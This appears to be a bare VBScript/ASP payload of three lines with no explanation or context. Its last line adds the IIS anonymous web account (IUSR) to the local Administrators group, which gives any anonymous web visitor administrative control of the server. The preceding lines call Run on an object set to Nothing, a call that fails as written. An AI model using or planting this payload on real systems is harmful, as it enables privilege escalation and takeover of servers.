Set x = Nothing
x.Run
GetObject("WinNT://./Administrators,group").Add "WinNT://NT AUTHORITY/IUSR"
